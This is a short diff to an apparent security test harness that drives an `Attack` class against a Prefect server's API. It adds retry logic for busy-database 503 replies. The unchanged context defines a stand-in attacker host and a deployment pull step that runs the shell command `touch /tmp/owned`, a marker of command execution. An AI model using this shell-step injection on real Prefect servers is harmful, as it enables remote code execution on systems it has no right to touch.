@@ -2,11 +2,13 @@
 
 import http.client
 import json
+import time
 import uuid
 from dataclasses import dataclass
 
 from flows.server_secret import HOST
 
+_PATIENCE_SECONDS = 30.0
 EVIL = "http://evil.example"
 _ID = str(uuid.UUID(int=7))
 _COMMAND = [{"prefect.deployments.steps.run_shell_script": {"script": "touch /tmp/owned"}}]
@@ -88,7 +90,10 @@ class Attack:
             body = {key: value or self._name for key, value in body.items()}
             body |= {"flow_id": self._flow} if "pull_steps" in body else {}
         path = request.path.format(deployment=self._deployment)
-        status, answer = ask(self._port, request.method, path, self._headers | dict(request.headers), body)
+        give_up = time.monotonic() + _PATIENCE_SECONDS
+        status = 503  # what Prefect answers while its database is busy; a page asks again
+        while status == 503 and time.monotonic() < give_up:
+            status, answer = ask(self._port, request.method, path, self._headers | dict(request.headers), body)
         if request.method == "POST" and status in (200, 201):
             made = json.loads(answer)
             if request.path == "/api/flows/":
